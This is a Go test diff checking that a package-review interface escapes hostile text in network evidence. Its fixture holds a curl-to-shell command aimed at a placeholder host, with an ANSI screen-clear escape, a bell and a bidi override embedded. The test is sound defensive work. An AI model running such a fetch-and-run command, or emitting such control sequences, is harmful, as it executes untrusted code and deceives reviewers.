@@ -115,3 +115,24 @@ func TestApproveDialogShowsNetworkRisk(t *testing.T) {
 		t.Fatalf("the dialog does not show the risk first (remote %d, net %d, fields %d):\n%s", remote, net, fields, view)
 	}
 }
+
+// Evidence is package text: a command with escape sequences and bidi controls reaches the
+// screen escaped in the tree, the Capabilities tab and the dialog.
+func TestNetworkEvidenceIsEscaped(t *testing.T) {
+	pkgs := riskPackages()
+	c := pkgs[0].Components[1]
+	c.Capabilities = nil
+	c.Contract.Fields = model.Fields{{Key: "command", Value: "curl -s \x1b[2J\x07\u202e https://get.example.com/x | sh"}}
+	netrisk.Attach(pkgs[0])
+	if len(c.Capabilities) == 0 || !strings.Contains(strings.Join(c.Capabilities[0].Scope, ""), "\x1b") {
+		t.Fatalf("the fixture does not carry the escape into the evidence: %+v", c.Capabilities)
+	}
+	m := newTestModel(t, pkgs, 120, 60)
+	for _, keys := range [][]string{{"j", "j", "2"}, {"a"}} {
+		press(t, m, keys...)
+		out := m.View().Content
+		if strings.Contains(out, "\x07") || strings.Contains(out, "\u202e") || strings.Contains(out, "\x1b[2J") {
+			t.Fatalf("raw control text after %v: %q", keys, out)
+		}
+	}
+}
